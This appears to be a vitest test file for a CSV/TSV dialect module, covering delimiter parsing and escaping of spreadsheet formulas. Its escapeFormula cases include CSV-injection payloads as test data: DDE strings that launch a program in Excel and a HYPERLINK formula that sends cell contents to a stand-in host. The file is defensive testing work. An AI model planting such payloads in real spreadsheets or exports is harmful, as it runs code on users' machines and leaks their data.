import fc from 'fast-check'
import {describe, expect, test} from 'vitest'
import {escapeFormula, toDelimiter, toDialect, unescapeFormula} from '../../../src/formats/write/dialect.js'

test('csv, tsv and the dialects of Excel are what their names say', () => {
  expect(toDialect('csv')).toEqual({delimiter: ',', lineEnding: '\n', byteOrderMark: false, escapesFormulas: false})
  expect(toDialect('tsv').delimiter).toBe('\t')
  expect(toDialect('csv', 'excel', 'semicolon')).toEqual({
    delimiter: ';',
    lineEnding: '\r\n',
    byteOrderMark: true,
    escapesFormulas: true,
  })
})

test.each([
  ['tab', '\t'],
  ['\\t', '\t'],
  ['|', '|'],
  ['\u001f', '\u001f'],
])('delimiter %j', (text, delimiter) => {
  expect(toDelimiter(text)).toBe(delimiter)
})

test.each(['', '"', '\n', '\r', ',,', '😀', 'constructor'])('refuses the delimiter %j', (text) => {
  expect(() => toDelimiter(text)).toThrow(expect.objectContaining({code: 'INVALID_DELIMITER', exit: 'usage'}))
})

describe('escapeFormula', () => {
  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"Error")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '-',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20SUM(1)',
    '-1-',
    '+1 555 123',
  ])('escapes %j', (text) => {
    expect(escapeFormula(text)).toBe(`'${text}`)
  })

  test.each(['-5', '+1.50', '-1e5', '-.5', '5', '', 'a=b', ' =1', "it's", "'quoted'"])('leaves %j', (text) => {
    expect(escapeFormula(text)).toBe(text)
  })

  test('is undone for every text', () => {
    const starts = fc.constantFrom('', "'", "''", '=', '-', "'=", "'-5", '-5', '\t')
    fc.assert(
      fc.property(starts, fc.string(), (start, rest) => {
        expect(unescapeFormula(escapeFormula(start + rest))).toBe(start + rest)
      }),
    )
  })
})
